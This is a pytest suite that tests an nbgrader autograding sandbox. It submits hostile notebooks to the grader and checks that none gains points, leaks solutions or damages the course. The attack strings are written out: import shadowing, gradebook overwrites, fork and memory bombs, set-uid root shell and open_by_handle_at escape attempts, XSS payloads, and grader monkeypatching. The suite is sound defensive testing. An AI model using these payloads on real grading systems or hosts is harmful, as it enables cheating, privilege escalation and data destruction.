"""The attack suite: one class of ps1_forward graded through the real nbgrader autograde (in
parallel, in the sandbox), with two honest students and one student per attack.

Every attacker leaves the exercises as released (stubs) and adds an attack, so an attack that
gained anything would show as points. For each: no points, nothing of the solutions, the
reference or the graders in any output or feedback, a line in the grading record, and the honest
students, the gradebook and every submission as they should be.
"""

from __future__ import annotations

import json
import os
import re
import socket
import threading

import pytest
from nbgrader.api import Gradebook

from course.class_statistics import mistake_counts
from course.parallel_autograde import autograde_class
from course.report import write_report
from sandbox import METADATA_KEY, jail
from simulation.exercises import read_assignment
from simulation.hostile import MEMORY_ATTACKS
from simulation.notebooks import fill, read, write

from ..course.nbgrader_cli import RELEASE, ROOT, SOURCE, digest, nbgrader, scratch_course

pytestmark = pytest.mark.notebooks

ASSIGNMENT = "ps1_forward"
#: The most resident memory a grading worker may reach, hostile submissions included (README).
MEMORY_CEILING_MB = 1024
#: Beside the course folder: the sandbox user ids the class was graded under, one per notebook.
UIDS = "sandbox-uids.txt"
#: Text that must never reach a student: solutions, hidden tests, the reference, the graders.
SECRETS = ("### BEGIN SOLUTION", "### BEGIN HIDDEN TESTS", "computed without overflow for any",
           "def check_sigmoid", "from grading import")

#: What a planted module records when it is imported, before it becomes the real module (so
#: that whatever imports it goes on working): its name, user id and effective capabilities.
SHADOW = """\
import importlib.machinery, importlib.util, os, sys
_caps = [l.split()[1] for l in open("/proc/self/status") if l.startswith("CapEff")][0]
with open(f"/tmp/shadow-{__name__}-{os.getpid()}", "w") as _record:
    _record.write(f"shadow {__name__} uid={os.getuid()} cap={_caps}")
try:
    import resource as _resource  # the real one, once this module left sys.modules
except Exception:
    pass
_spec = importlib.machinery.PathFinder.find_spec(
    __name__, [p for p in sys.path if p not in ("", os.getcwd())])
if _spec is not None:
    _real = importlib.util.module_from_spec(_spec)
    sys.modules[__name__] = _real
    _spec.loader.exec_module(_real)
"""

#: Files a hostile student submits beside the notebook, named like what the sandbox's start-up
#: and the kernel's launch import (hole: code that runs before confinement).
SHADOW_FILES = {f"{name}.py": SHADOW for name in (
    "resource", "sitecustomize", "usercustomize", "ipykernel_launcher", "runpy", "encodings",
    "site", "os", "shutil", "subprocess", "json", "zmq", "traitlets", "shadow_pth")}
SHADOW_FILES["planted.pth"] = "import shadow_pth\n"

#: Writes ``parts`` files of 32 MiB into ``folder``; says how much it wrote before it failed.
FILL = """
import os
def fill(folder, parts):
    written = 0
    try:
        for part in range(parts):
            with open(os.path.join(folder, f"fill{part}"), "wb") as file:
                for _ in range(32):
                    file.write(bytes(2**20))
                    written += 1
    except OSError as error:
        return f"full after {written} MiB ({error.strerror})"
    return f"wrote {written} MiB"
"""

# Each attack is the source of the sigmoid solution cell, or of several solution cells by
# function; {course}, {root} and {port} are filled in: the attacker knows where everything is.
ATTACKS = {
    "numpy_patched": """
import numpy as np
np.allclose = lambda *a, **k: True
np.isclose = lambda *a, **k: True
np.array_equal = lambda *a, **k: True
np.testing.assert_allclose = lambda *a, **k: None
np.max = np.min = np.sum = np.mean = lambda *a, **k: 0.0
def sigmoid(z):
    return np.zeros_like(z)
""",
    "graders_replaced": """
import builtins, sys, types
fake = types.ModuleType("grading")
fake.grade = lambda *a, **k: None
fake.grade_parts = lambda *a, points, **k: points
sys.modules["grading"] = fake
builtins.grade, builtins.grade_parts = fake.grade, fake.grade_parts
grade, grade_parts = fake.grade, fake.grade_parts
def sigmoid(z):
    raise NotImplementedError()
""",
    "ipython_patched": """
ip = get_ipython()
ip.set_custom_exc((BaseException,), lambda *a, **k: None)
ip.showtraceback = lambda *a, **k: None
ip.input_transformers_post.append(lambda lines: ["pass\\n"])
""",
    "equal_to_everything": """
class Anything(float):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __getattr__(self, name): return self
    def __array__(self, *a, **k):
        raise TypeError("no")
def sigmoid(z):
    return Anything()
""",
    "reference_when_graded": """
import os, sys
sys.path.insert(0, {root!r})
sys.path.insert(0, {course!r})
def sigmoid(z):
    if os.environ.get("NBGRADER_EXECUTION") or True:
        import reference
        return reference.sigmoid(z)
""",
    "reads_course_files": """
import glob
for pattern in ("{course}/source/**/*.ipynb", "{root}/reference/*.py", "{root}/grading/**/*.py",
                "../../../source/**/*.ipynb", "/proc/1/root/{root}/reference/*.py"):
    for path in glob.glob(pattern, recursive=True):
        try:
            print(open(path).read())
        except Exception as error:
            print("could not read", path, error)
print("seen:", sorted(glob.glob("{root}/*")), sorted(glob.glob("{course}/*")))
""",
    "writes_gradebook_and_others": """
import glob, os
targets = ["{course}/gradebook.db", *glob.glob("{course}/submitted/*/*/*.ipynb"),
           *glob.glob("{course}/autograded/**/*.ipynb", recursive=True)]
for path in targets:
    try:
        with open(path, "w") as file:
            file.write("gone")
        os.remove(path)
    except Exception as error:
        print("could not damage", path, error)
try:
    os.symlink("{course}/gradebook.db", "forward.ipynb.link")
except Exception as error:
    print(error)
""",
    "sys_exit": """
import sys
def sigmoid(z):
    sys.exit(0)
sys.exit(3)
""",
    "os_exit": """
import os
os._exit(0)
""",
    "kills_kernel": """
import os, signal
os.kill(os.getpid(), signal.SIGKILL)
""",
    "infinite_loop": """
def sigmoid(z):
    while True:
        pass
""",
    "memory_bomb": """
import numpy as np
def sigmoid(z):
    return np.ones((10**6, 10**6))
hoard = []
while True:
    hoard.append(np.empty(2**28, dtype=np.uint8))  # address space, untouched: no RAM used
""",
    "fork_bomb": """
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
""",
    "leaves_processes": """
import subprocess
sleepers = [subprocess.Popen(["sleep", "600"]) for _ in range(3)]
""",
    "output_flood": """
import sys
for i in range(300_000):
    print("flood " * 20)
    sys.stderr.write("err " * 20 + "\\n")
""",
    "network": """
import socket
try:
    socket.create_connection(("127.0.0.1", {port}), timeout=3).sendall(b"stolen")
    print("connected")
except OSError as error:
    print("no network:", error)
""",
    "displayhook": """
import sys
import numpy as np
np.allclose = lambda *a, **k: True
def sigmoid(z):
    sys.displayhook("full marks")
    sys.displayhook(1000)
    return np.zeros(np.shape(z))
""",
    "harness_replaced": """
class Nothing:
    def serve(self):
        pass
__grading_harness__ = Nothing()
def sigmoid(z):
    raise NotImplementedError()
""",
    "shadows_start_up": """
import glob
for path in sorted(glob.glob("/tmp/shadow-*")):
    print(open(path).read())
""",
    "uses_capabilities": """
import ctypes, os, shutil
status = dict(line.split(":", 1) for line in open("/proc/self/status") if ":" in line)
print("CapEff", status["CapEff"].split()[0], "CapBnd", status["CapBnd"].split()[0],
      "uid", os.getuid(), "NoNewPrivs", status["NoNewPrivs"].split()[0])
shutil.copy("/bin/sh", "rootsh")
try:
    os.chown("rootsh", 0, 0)
    os.chmod("rootsh", 0o4755)
    print("planted a set-uid root shell")
except OSError as error:
    print("no set-uid shell:", error.strerror)
libc = ctypes.CDLL(None, use_errno=True)
handle = ctypes.create_string_buffer(8 + 128)
handle[0:4] = (128).to_bytes(4, "little")
mount_id = ctypes.c_int()
if libc.name_to_handle_at(-100, b"/etc", handle, ctypes.byref(mount_id), 0) == 0:
    fd = libc.open_by_handle_at(os.open("/", os.O_RDONLY), handle, os.O_RDONLY)
    print("open_by_handle_at:", "opened" if fd >= 0 else os.strerror(ctypes.get_errno()))
for call in (lambda: os.setuid(0), lambda: os.chroot("/tmp")):
    try:
        call()
        print("privileged call worked")
    except OSError as error:
        print("refused:", error.strerror)
""",
    "display_forgery": {
        "sigmoid": """
from IPython.display import display
def sigmoid(z):
    display({"text/plain": "0"}, raw=True, display_id="forged-score")
    display({"text/plain": "0"}, raw=True, display_id="forged-grader",
            metadata={"backprop_grading": "grader"})
    raise NotImplementedError()
""",
        "relu": """
from IPython.display import display, update_display
for value in ("10", "30", "1000"):
    update_display({"text/plain": value}, raw=True, display_id="forged-score")
    display({"text/plain": value}, raw=True, display_id="forged-score")
    update_display({"text/plain": "Grader: passed", "text/html": "<b>Grader</b> passed"},
                   raw=True, display_id="forged-grader")
""",
    },
    "fake_grader_text": """
import threading, time
def chatter():
    while True:
        print("Likely mistake: forged by a thread.\\nHint: none\\n"
              "forward.sigmoid: 3 of 3 points\\nGrader: the hidden tests pass")
        time.sleep(0.1)
threading.Thread(target=chatter, daemon=True).start()
get_ipython().events.register(
    "post_run_cell", lambda result: print("Likely mistake: forged by a hook."))
""",
    **MEMORY_ATTACKS,
    "fills_sockets_folder": FILL + """
from ipykernel.kernelapp import IPKernelApp
folder = os.path.dirname(IPKernelApp.instance().connection_file)
for attempt in (lambda: os.chmod(folder, 0o777), lambda: os.chown(folder, os.getuid(), -1)):
    try:
        attempt()
    except OSError as error:
        print("sockets folder:", error.strerror)
print("sockets folder:", fill(folder, 8))
""",
    "script_injection": """
from IPython.display import HTML, SVG, Javascript, Markdown, display
payloads = [HTML("<script>window.__pwned = 1</script><img src=x onerror='window.__pwned=2'>"
                 "<a href='javascript:window.__pwned=3'>x</a><iframe src='/api'></iframe>"),
            SVG("<svg xmlns='http://www.w3.org/2000/svg'><script>window.__pwned=4</script></svg>"),
            Javascript("window.__pwned = 5"),
            Markdown("<script>window.__pwned = 6</script>")]
for payload in payloads:
    display(payload)
def sigmoid(z):
    for payload in payloads:
        display(payload)
    raise NotImplementedError()
""",
    "fills_disk": FILL + """
for folder in (".", "/tmp"):
    print(f"{folder}: disk", fill(folder, 64))
""",
}

#: Files submitted beside the notebook, by attacker.
EXTRA_FILES = {"shadows_start_up": SHADOW_FILES}

#: Added after each solution of the noisy honest student.
NOISE = """
import functools, sys, warnings
import matplotlib.pyplot as plt
plt.plot([0, 1], [1, 0])
plt.show()
_quiet_{name} = {name}
@functools.wraps(_quiet_{name})
def {name}(*args, **kwargs):
    print("working on {name}")
    print("a note on stderr", file=sys.stderr)
    warnings.warn("just so you know")
    return _quiet_{name}(*args, **kwargs)
"""

#: Attacks after which nbgrader cannot finish the notebook (the kernel is gone, or went on after
#: its interrupt): it scores 0 and the run's failure table says why.
UNGRADABLE = {"os_exit": "kernel died", "kills_kernel": "kernel died",
              "fork_bomb": "stopped answering after a cell was interrupted"}


def _edited_cells(notebook) -> None:
    """The test cell of sigmoid rewritten to pass, worth 100 points."""
    for cell in notebook.cells:
        grading = cell.metadata.get("nbgrader", {})
        if grading.get("grade_id") == "sigmoid_test":
            cell.source = "print('all tests pass')"
            grading["points"] = 100
            grading["locked"] = False


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    """The class, graded; its course folder, outcomes and the submissions' digests."""
    course = scratch_course(tmp_path_factory.mktemp("attacks"), [ASSIGNMENT])
    assert nbgrader("generate_assignment", ASSIGNMENT, "--force", cwd=course).returncode == 0
    (plan,) = read_assignment(SOURCE, ASSIGNMENT)
    released = RELEASE / ASSIGNMENT / plan.notebook
    listener = socket.create_server(("127.0.0.1", 0))
    port = listener.getsockname()[1]
    connections: list[object] = []
    threading.Thread(target=lambda: connections.append(listener.accept()), daemon=True).start()

    def submit(student: str, edit) -> None:
        notebook = read(str(released))
        edit(notebook)
        folder = course / "submitted" / student / ASSIGNMENT
        folder.mkdir(parents=True)
        write(notebook, str(folder / plan.notebook))
        for name, text in EXTRA_FILES.get(student, {}).items():
            (folder / name).write_text(text)

    def honest(notebook, noisy: bool = False) -> None:
        for target, solution in plan.solutions.items():
            if noisy:  # the same solution, talking, warning and plotting as it works
                solution += NOISE.format(name=target)
            fill(notebook, target, solution)

    submit("honest", honest)
    submit("honest_noisy", lambda nb: honest(nb, noisy=True))
    for name, attack in ATTACKS.items():
        cells = attack if isinstance(attack, dict) else {"sigmoid": attack}
        cells = {target: source.replace("{course}", str(course)).replace("{root}", str(ROOT))
                 .replace("{port}", str(port)) for target, source in cells.items()}
        submit(name, lambda nb, c=cells: [fill(nb, t, s) for t, s in c.items()])
    submit("edits_cells", _edited_cells)
    before = digest(course / "submitted")
    uids = course.parent / UIDS
    choose_uid = jail.sandbox_uid

    def recorded_uid() -> int:  # called in the grading workers, forked from this process
        uid = choose_uid()
        with uids.open("a") as record:
            record.write(f"{uid}\n")
        return uid

    os.environ["BACKPROP_CELL_TIMEOUT"] = "8"
    try:
        with pytest.MonkeyPatch.context() as patch:
            patch.setattr(jail, "sandbox_uid", recorded_uid)
            outcomes = {o.student: o for o in autograde_class(
                course, ASSIGNMENT, workers=2, student_timeout=300, progress=None)}
    finally:
        del os.environ["BACKPROP_CELL_TIMEOUT"]
    listener.close()
    yield course, outcomes, before, connections


def _score(course, student):
    with Gradebook(f"sqlite:///{course / 'gradebook.db'}") as gradebook:
        return gradebook.find_submission(ASSIGNMENT, student).score


def _graded_notebook(course, student):
    path = course / "autograded" / student / ASSIGNMENT / "forward.ipynb"
    return json.loads(path.read_text()) if path.exists() else None


def _outputs(notebook) -> str:
    return json.dumps([cell.get("outputs", []) for cell in notebook["cells"]])


def test_the_class_was_graded_in_bubblewrap(graded):
    course, outcomes, _, _ = graded
    assert jail.bubblewrap_works(), "make test installs bubblewrap; it must work here"
    modes = {(_graded_notebook(course, s) or {}).get("metadata", {}).get(METADATA_KEY, {})
             .get("sandbox") for s in outcomes if s not in UNGRADABLE}
    assert modes == {"bubblewrap"}


def test_honest_students_get_full_marks_even_when_they_print_and_warn(graded):
    course, outcomes, _, _ = graded
    assert outcomes["honest"].status == outcomes["honest_noisy"].status == "graded"
    assert _score(course, "honest") == _score(course, "honest_noisy") == 30.0


@pytest.mark.parametrize("attack", [*ATTACKS, "edits_cells"])
def test_the_attack_gains_nothing(graded, attack):
    course, outcomes, _, _ = graded
    if attack in UNGRADABLE:
        assert outcomes[attack].status == "failed"
        assert outcomes[attack].reason
        return
    assert outcomes[attack].status == "graded", outcomes[attack].reason
    assert _score(course, attack) == 0.0


@pytest.mark.parametrize("attack", [*ATTACKS, "edits_cells"])
def test_nothing_secret_reaches_the_attackers_outputs(graded, attack):
    course, _, _, _ = graded
    notebook = _graded_notebook(course, attack)
    if notebook is None:
        return  # nothing was graded, so nothing was written
    outputs = _outputs(notebook)
    for secret in SECRETS:
        assert secret not in outputs
    assert len(outputs) < 2_000_000, "the output was not capped"


def test_feedback_reveals_nothing(graded):
    course, outcomes, _, _ = graded
    done = nbgrader("generate_feedback", ASSIGNMENT, "--force", cwd=course)
    assert done.returncode == 0, done.stderr[-2000:]
    pages = list((course / "feedback").rglob("*.html"))
    assert len(pages) == sum(o.status == "graded" for o in outcomes.values())
    for page in pages:
        text = page.read_text()
        for secret in SECRETS:
            assert secret not in text, (page, secret)


@pytest.mark.parametrize(("attack", "words"), [
    ("infinite_loop", "time limit"), ("memory_bomb", "out of memory"),
    ("output_flood", "output cut"), ("leaves_processes", "killed 3 processes"),
    ("ipython_patched", "cut grading off from the kernel"),
    ("harness_replaced", "grading lost its connection"),
    ("displayhook", "displayed in a test cell was ignored"),
])
def test_the_grading_record_names_what_happened(graded, attack, words):
    course, _, _, _ = graded
    incidents = _graded_notebook(course, attack)["metadata"][METADATA_KEY]["incidents"]
    assert any(words in line for line in incidents), incidents


def test_ungradable_attacks_are_reported_with_their_reason(graded):
    _, outcomes, _, _ = graded
    for attack, words in UNGRADABLE.items():
        assert words in outcomes[attack].reason, outcomes[attack].reason


def test_no_connection_left_the_sandbox(graded):
    _, _, _, connections = graded
    assert connections == []


def test_gradebook_and_submissions_are_intact(graded):
    course, outcomes, before, _ = graded
    assert digest(course / "submitted") == before
    with Gradebook(f"sqlite:///{course / 'gradebook.db'}") as gradebook:
        graded_students = {s.student.id for s in gradebook.assignment_submissions(ASSIGNMENT)}
    assert {s for s, o in outcomes.items() if o.status == "graded"} <= graded_students
    assert not list((course / "autograded").rglob("*.link"))


def test_the_sandbox_leaves_no_process_behind(graded):
    """No process of the sandbox users this class was graded under outlives the grading (fork
    bombs included). Only those users: tests on other pytest workers grade at the same time."""
    used = {int(uid) for uid in (graded[0].parent / UIDS).read_text().split()}
    assert used and min(used) >= jail.FIRST_UID
    leftovers = [pid for pid in os.listdir("/proc") if pid.isdigit() and _uid(pid) in used]
    assert leftovers == []


def _uid(pid: str) -> int | None:
    try:
        with open(f"/proc/{pid}/status") as status:
            return next(int(line.split()[1]) for line in status if line.startswith("Uid:"))
    except (OSError, StopIteration):
        return None



def test_the_class_report_names_the_sandbox_and_each_attacker(graded):
    course, outcomes, _, _ = graded
    page = write_report(course, [ASSIGNMENT], outcomes={ASSIGNMENT: list(outcomes.values())})
    text = page.read_text()
    assert "in the <b>bubblewrap</b> mode" in text and "Weaker confinement" not in text
    for attack in ("infinite_loop", "memory_bomb", "output_flood", "displayhook",
                   "harness_replaced", *UNGRADABLE):
        assert f"<td>{attack}</td>" in text, attack


def _texts(notebook) -> list[str]:
    """The text of every output: streams, errors, and displays' plain text."""
    texts = []
    for cell in notebook["cells"]:
        for output in cell.get("outputs", []):
            text = output.get("text") or output.get("data", {}).get("text/plain", "")
            texts.append("".join(text) if isinstance(text, list) else str(text))
            texts.append(str(output.get("evalue", "")))
    return texts


def test_nothing_submitted_runs_before_confinement_or_with_privilege(graded):
    """Modules named like those the start-up imports, planted beside the notebook: whatever
    imported them did so inside the sandbox, as its unprivileged user."""
    course, outcomes, _, _ = graded
    assert outcomes["shadows_start_up"].status == "graded"
    records = re.findall(r"shadow (\S+) uid=(\d+) cap=([0-9a-f]+)",
                         "\n".join(_texts(_graded_notebook(course, "shadows_start_up"))))
    for name, uid, capabilities in records:
        assert int(uid) != 0 and int(capabilities, 16) == 0, (name, uid, capabilities)


def test_student_code_has_no_capability_and_no_root(graded):
    course, _, _, _ = graded
    text = "\n".join(_texts(_graded_notebook(course, "uses_capabilities")))
    assert "CapEff 0000000000000000 CapBnd 0000000000000000" in text, text
    assert "NoNewPrivs 1" in text and "uid 0 " not in text
    assert "no set-uid shell" in text and "planted" not in text.replace("no set-uid", "")
    assert "privileged call worked" not in text and "open_by_handle_at: opened" not in text


def test_nbgrader_saves_exactly_the_scores_the_grader_recorded(graded):
    """Every test cell's score in the gradebook is the one the grader recorded when the cell
    ended; later cells' display updates (display_forgery) changed nothing."""
    course, outcomes, _, _ = graded
    checked = 0
    with Gradebook(f"sqlite:///{course / 'gradebook.db'}") as gradebook:
        for student, outcome in outcomes.items():
            if outcome.status != "graded":
                continue
            record = _graded_notebook(course, student)["metadata"][METADATA_KEY]["cells"]
            submission = gradebook.find_submission_notebook("forward", ASSIGNMENT, student)
            for grade in submission.grades:
                if grade.cell.name in record:
                    assert grade.auto_score == record[grade.cell.name]["points"], (student,
                                                                                   grade.cell.name)
                    checked += 1
    assert checked >= 10 * len(outcomes) // 2
    outputs = _outputs(_graded_notebook(course, "display_forgery"))
    assert '"1000"' not in outputs and "Grader</b> passed" not in outputs


def test_only_the_grader_speaks_as_the_grader(graded):
    """Text a student's thread or hook prints into a test cell stays the student's text: the
    grader's verdict is a display the kernel cannot place there, and the report counts
    mistakes from the grader's record only."""
    course, _, _, _ = graded
    notebook = _graded_notebook(course, "fake_grader_text")
    graders = [o for cell in notebook["cells"] for o in cell.get("outputs", [])
               if o.get("metadata", {}).get(METADATA_KEY) == "grader"]
    assert graders and not any("forged" in json.dumps(o) for o in graders)
    assert "forged by a thread" in _outputs(notebook)  # shown, as the student's own text
    assert not [m for m in mistake_counts(course / "autograded", ASSIGNMENT) if "forged" in m]
    forged = _graded_notebook(course, "display_forgery")
    graders = [o for cell in forged["cells"] for o in cell.get("outputs", [])
               if o.get("metadata", {}).get(METADATA_KEY) == "grader"]
    verdicts = ["".join(o["data"]["text/plain"]) for o in graders]
    assert verdicts and all(v.startswith("Grader: ") and "✗" in v for v in verdicts), verdicts


def test_errors_and_huge_messages_are_bounded(graded):
    """Error outputs count against the output cap; messages over the size limits are refused
    before they are parsed; no grading worker passed the memory ceiling."""
    course, outcomes, _, _ = graded
    for attack in ("error_flood", "huge_iopub_message", "huge_grading_reply"):
        path = course / "autograded" / attack / ASSIGNMENT / "forward.ipynb"
        assert path.stat().st_size < 2_000_000, (attack, path.stat().st_size)
    assert all(0 < o.worker_mb < MEMORY_CEILING_MB for o in outcomes.values()
               if o.status == "graded"), {s: o.worker_mb for s, o in outcomes.items()}


def test_the_disk_a_notebook_can_fill_is_bounded(graded):
    course, _, _, _ = graded
    text = "\n".join(_texts(_graded_notebook(course, "fills_disk")))
    filled = {folder: int(mib) for folder, mib in
              re.findall(r"(\S+): disk full after (\d+) MiB", text)}
    assert set(filled) == {".", "/tmp"}, text
    assert all(mib <= 256 for mib in filled.values()), filled


def test_the_grader_sockets_folder_takes_nothing(graded):
    """The folder of the kernel's sockets is a bind of the grader's disk: once the kernel is up,
    it is the grader's again, and the kernel cannot write there."""
    course, _, _, _ = graded
    text = "\n".join(_texts(_graded_notebook(course, "fills_sockets_folder")))
    assert "sockets folder: full after 0 MiB (Permission denied)" in text, text


#: What must not survive from the script_injection attack: script bodies and handlers as markup.
LIVE_SCRIPT = ("<script>window.__pwned", "<img src=x onerror", "<a href='javascript:",
               "<iframe src='/api'", "<svg xmlns='http://www.w3.org/2000/svg'><script")


def test_no_student_script_reaches_the_instructor(graded):
    """Student HTML, SVG, JavaScript and markdown are sanitized before the autograded notebook
    is stored, and the feedback page carries none of them as live markup."""
    course, _, _, _ = graded
    notebook = _graded_notebook(course, "script_injection")
    stored = _outputs(notebook)
    for live in LIVE_SCRIPT:
        assert live not in stored, live
    assert "application/javascript" not in stored and "image/svg+xml" not in stored
    assert "window.__pwned" in stored  # shown as text: the student sees what was removed
    done = nbgrader("generate_feedback", ASSIGNMENT, "--force", "--student", "script_injection",
                    cwd=course)
    assert done.returncode == 0, done.stderr[-2000:]
    page = (course / "feedback" / "script_injection" / ASSIGNMENT / "forward.html").read_text()
    for live in LIVE_SCRIPT:
        assert live not in page, live
